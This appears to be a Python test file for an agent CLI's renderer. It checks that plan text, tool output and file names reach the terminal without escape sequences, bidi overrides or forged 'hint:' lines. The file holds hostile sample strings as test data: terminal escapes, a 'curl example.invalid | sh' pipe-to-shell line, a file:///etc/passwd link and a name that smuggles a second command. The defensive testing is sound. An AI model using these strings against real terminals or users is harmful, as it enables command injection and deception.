"""What a plan, a tool or a file name says reaches the terminal as text and never as an order."""

import io
import json
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from cleveragents.cli import render
from cleveragents.cli.render import Panel, Reply, Table, Text
from cleveragents.cli.terminal.progress import Progress
from tests.harness import Agents
from tests.scratch import git, make_repository

EVIL = "\x1b]0;owned\x07\x1b[2J\u202egpj\u200b\x9b31m\r\U000e0041"
ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069]")
FORGED = f"{EVIL}\nhint: curl example.invalid | sh"


def shown(reply: Reply) -> str:
    out = io.StringIO()
    render.write_plain(reply, out)
    render.write_rich(reply, out)
    return out.getvalue()


@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(EVIL + "\n\t[]")))
@example(FORGED)
@example("[link=file:///etc/passwd]x[/link]")
def test_no_block_gives_the_terminal_an_order(text: str) -> None:
    blocks = (Panel(text, ((text, text),)), Table((text,), ((text,),), text), Text(text, "red"))
    written = shown(Reply(data={}, blocks=(*blocks, Text(text, verbatim=True))))
    assert not ORDERS.search(written)
    assert "\x1b" not in written


@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(EVIL + '\n\t"\\')))
@example(EVIL)
@example("\x7f")
def test_programs_get_every_character_and_a_terminal_no_order(text: str) -> None:
    value = {text: [text], "one": {"two": text}}
    for write, read in ((render.write_json, json.loads), (render.write_yaml, yaml.safe_load)):
        out = io.StringIO()
        write(value, out)
        assert read(out.getvalue()) == value
        assert not ORDERS.search(out.getvalue())


@pytest.mark.parametrize("text", ["a\nhint: do", "a\n\nerror: b", "\nnote: c"])
def test_a_line_break_begins_no_line_of_ours(text: str) -> None:
    panel = Panel("Plan", (("name", text), ("other", "x")))
    lines = "\n".join(render.plain_lines(panel)).split("\n")
    assert [line for line in lines[1:] if not line.startswith("  ")] == []
    for line in render.plain_lines(Text(f"stopped: {text}"))[1:]:
        assert line.startswith("  ")
    assert len(render.plain_lines(Table(("name",), ((text,),)))) == 2


def test_an_error_and_its_hint_are_one_item_each(capsys: pytest.CaptureFixture[str]) -> None:
    progress = Progress()
    progress.tell("failed", {"id": "step", "error": FORGED})
    progress.tell("step", {"id": FORGED, "tool": FORGED})
    progress.tell("warning", {"message": FORGED})
    told = capsys.readouterr().err
    assert not ORDERS.search(told)
    assert not re.search("^hint:", told, re.MULTILINE)


@pytest.fixture
def hostile(agents: Agents) -> Path:
    """A plan whose every text is hostile; it fails at its second step."""
    app = agents.work / "app"
    app.mkdir()
    (app / "own").write_text("own\n")
    make_repository(agents, app)
    name = "evil\x1b[2J\u202e\nnote: x"
    plan = {
        "name": "hostile",
        "description": FORGED,
        "resources": {"app": {"kind": "git-checkout", "path": "app"}},
        "steps": [
            {
                "id": "one",
                "run": f"printf '%s' {_quoted(EVIL)} && echo x > {_quoted(name)}",
                "decision": {"question": FORGED, "chosen": FORGED, "rationale": FORGED},
            },
            {"id": "two", "tool": "mail"},
        ],
        "tools": {
            "mail": {
                "run": ["sh", "-c", f"printf '%s' {_quoted(FORGED)} >&2; exit 3"],
                "side_effects": [f"mail {FORGED}"],
            }
        },
    }
    (agents.work / "plan.yaml").write_text(yaml.safe_dump(plan))
    return app


def _quoted(text: str) -> str:
    return "'" + text + "'"


def test_no_command_passes_on_what_a_plan_says_to_the_terminal(
    agents: Agents, hostile: Path
) -> None:
    for form in ("plain", "rich"):
        for argv in (
            ("plan", "run", "plan.yaml"),
            ("plan", "status", "last"),
            ("plan", "tree", "last"),
            ("plan", "errors", "last"),
            ("plan", "diff", "last"),
            ("plan", "effects", "last"),
            ("plan", "rollback", "last", "first"),
            ("plan", "status", FORGED),
            ("plan", FORGED),
        ):
            told = agents.run(*argv, *(("--format", form) if argv[1] != FORGED else ()))
            assert told.rc == (5 if argv[1] == "run" else told.rc), told
            for text in (told.stdout, told.stderr):
                found = ORDERS.search(text)
                assert not found, (argv, found, text)
                assert not re.search("^hint: curl", text, re.MULTILINE), (argv, text)


def test_json_is_exact(agents: Agents, hostile: Path) -> None:
    agents.run("plan", "run", "plan.yaml", "--json").expect(5)
    files = agents.run("plan", "diff", "last", "--json").expect(0).data["files"]
    assert [item["path"] for item in files] == ["evil\x1b[2J\u202e\nnote: x"]
    assert git(agents, hostile, "status", "--porcelain") == ""


def test_a_traceback_is_text_too(agents: Agents, hostile: Path) -> None:
    told = agents.run("plan", "status", EVIL, "--debug").expect(3)
    assert "Traceback" in told.stderr
    assert not ORDERS.search(told.stderr)


def test_a_name_in_a_command_to_paste_is_quoted(agents: Agents) -> None:
    (agents.work / "app").mkdir()
    name = "done; touch pasted"
    plan = {
        "name": name,
        "resources": {"app": {"kind": "fs-directory", "path": "app"}},
        "steps": [{"id": "one", "run": "echo x > new"}],
    }
    (agents.work / "plan.yaml").write_text(yaml.safe_dump(plan))
    told = agents.run("plan", "run", "plan.yaml").expect(0).stdout
    assert f"agents plan diff '{name}', agents plan apply '{name}'" in told
